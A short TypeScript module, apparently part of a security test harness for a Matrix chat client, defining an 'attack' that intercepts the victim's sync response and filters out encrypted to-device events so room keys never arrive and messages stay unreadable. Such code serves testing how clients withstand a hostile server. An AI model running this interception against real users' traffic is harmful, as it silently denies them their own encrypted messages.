/** Keeps the keys of messages back: the messages come, but not the to-device events that would open them. */
import { listOf, objectOf, type Attack } from "./attack.ts";
import { isVictimsSync } from "./sync.ts";

/** What was kept back is gone for good: the server deletes to-device events once they have been asked for. */
export function dropRoomKeys(): Attack {
  return {
    answer(request, answer, on) {
      if (!on || !isVictimsSync(request)) return undefined;
      const body = objectOf(answer);
      const toDevice = objectOf(body["to_device"]);
      const events = listOf(toDevice["events"]);
      const rest = events.filter((event) => objectOf(event)["type"] !== "m.room.encrypted");
      return rest.length === events.length ? undefined : { ...body, to_device: { ...toDevice, events: rest } };
    },
  };
}
